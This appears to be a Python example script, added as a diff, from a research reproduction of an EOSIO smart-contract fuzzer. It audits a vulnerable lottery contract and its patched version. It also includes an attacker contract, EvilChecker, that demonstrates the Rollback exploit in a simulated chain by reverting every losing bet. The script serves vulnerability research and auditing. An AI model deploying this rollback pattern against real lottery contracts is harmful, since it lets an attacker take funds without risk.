@@ -1,0 +1,121 @@
+#!/usr/bin/env python3
+"""Audit of a Listing-4-style lottery contract, before and after patching.
+
+The vulnerable lottery answers payments with an *inline* reward gated
+on tapos-based randomness — both the Rollback (§2.3.5) and the
+BlockinfoDep (§2.3.4) bugs from the paper's Listing 4.  The patched
+version uses a deferred reward and drops the tapos PRNG.
+
+The script also demonstrates the Rollback exploit concretely: an
+attacker contract plays the lottery with an inline action and asserts
+false whenever it did not win, reverting its stake.
+
+Run:  python examples/lottery_audit.py
+"""
+
+import random
+
+from repro import ContractConfig, format_report, generate_contract
+from repro.engine import WasaiFuzzer, deploy_target, setup_chain
+from repro.eosio import (Action, Asset, Encoder, N, NativeContract,
+                         issue_to, token_balance)
+from repro.eosio.errors import AssertionFailure
+from repro.scanner import scan_report
+
+
+def audit(config: ContractConfig) -> None:
+    contract = generate_contract(config)
+    chain = setup_chain()
+    target = deploy_target(chain, config.account, contract.module,
+                           contract.abi)
+    fuzzer = WasaiFuzzer(chain, target, rng=random.Random(1),
+                         timeout_ms=25_000)
+    report = fuzzer.run()
+    print(format_report(scan_report(report, target)))
+    print()
+
+
+class EvilPlayer(NativeContract):
+    """The §2.3.5 attacker: participate inline, revert when losing."""
+
+    def __init__(self, lottery: int):
+        self.lottery = lottery
+        self.stake = Asset.from_string("5.0000 EOS")
+
+    def apply(self, chain, ctx) -> None:
+        if ctx.receiver != ctx.code or ctx.action_name != N("play"):
+            return
+        data = (Encoder().name(ctx.receiver).name(self.lottery)
+                .asset(self.stake).string("bet").bytes())
+        ctx.add_inline_action(Action("eosio.token", "transfer",
+                                     [ctx.receiver], data))
+        # The inline transfer (and the lottery's inline response) run
+        # inside this same transaction; our balance check runs after.
+        ctx.add_inline_action(Action(ctx.receiver, "check",
+                                     [ctx.receiver], b""))
+
+    # check is dispatched back to us as a second inline action.
+
+
+class EvilChecker(EvilPlayer):
+    def apply(self, chain, ctx) -> None:
+        if ctx.action_name == N("play"):
+            super().apply(chain, ctx)
+        elif ctx.action_name == N("check") and ctx.receiver == ctx.code:
+            balance = token_balance(chain, "eosio.token", ctx.receiver)
+            if balance < self.start_balance:
+                # We lost: revert the whole transaction (stake back!).
+                raise AssertionFailure("lost -> roll back the bet")
+
+
+def demonstrate_rollback_exploit() -> None:
+    print("--- Rollback exploit demonstration ---")
+    config = ContractConfig(account="lottery", seed=3,
+                            reward_scheme="inline", use_blockinfo=True)
+    contract = generate_contract(config)
+    chain = setup_chain()
+    deploy_target(chain, "lottery", contract.module, contract.abi)
+    issue_to(chain, "eosio.token", "lottery", "1000.0000 EOS")
+    evil = EvilChecker(N("lottery"))
+    chain.set_contract("evil", evil)
+    issue_to(chain, "eosio.token", "evil", "100.0000 EOS")
+
+    wins = reverted = 0
+    for round_number in range(12):
+        if round_number % 3 == 2:
+            # A block where the tapos dice land badly (b == 0 in the
+            # Listing 4 PRNG): the lottery keeps the stake.
+            chain.tapos_block_prefix = (1 << 32) - chain.tapos_block_num
+        else:
+            chain.tapos_block_prefix = 0x1000 + round_number * 7919
+        evil.start_balance = token_balance(chain, "eosio.token", "evil")
+        result = chain.push_action("evil", "play", [N("evil")], b"")
+        after = token_balance(chain, "eosio.token", "evil")
+        if result.success:
+            wins += 1
+        else:
+            # Losing round: our evil contract asserted, reverting the
+            # inline stake transfer together with the whole tx.
+            reverted += 1
+            assert after == evil.start_balance, "rollback failed!"
+    final = token_balance(chain, "eosio.token", "evil")
+    print(f"rounds: 12, paid-out rounds: {wins}, losing rounds "
+          f"reverted by the attacker: {reverted}")
+    print(f"attacker balance: started 100.0000 EOS, ended {final}")
+    print("every losing bet was reverted: the attacker cannot lose.\n")
+
+
+def main() -> None:
+    print("=== auditing the vulnerable lottery ===")
+    audit(ContractConfig(account="lottery", seed=3,
+                         reward_scheme="inline", use_blockinfo=True,
+                         maze_depth=1))
+    print("=== auditing the patched lottery (defer + no tapos PRNG) ===")
+    audit(ContractConfig(account="lottery", seed=3,
+                         reward_scheme="defer", use_blockinfo=False,
+                         maze_depth=1))
+    demonstrate_rollback_exploit()
+
+
+if __name__ == "__main__":
+    main()
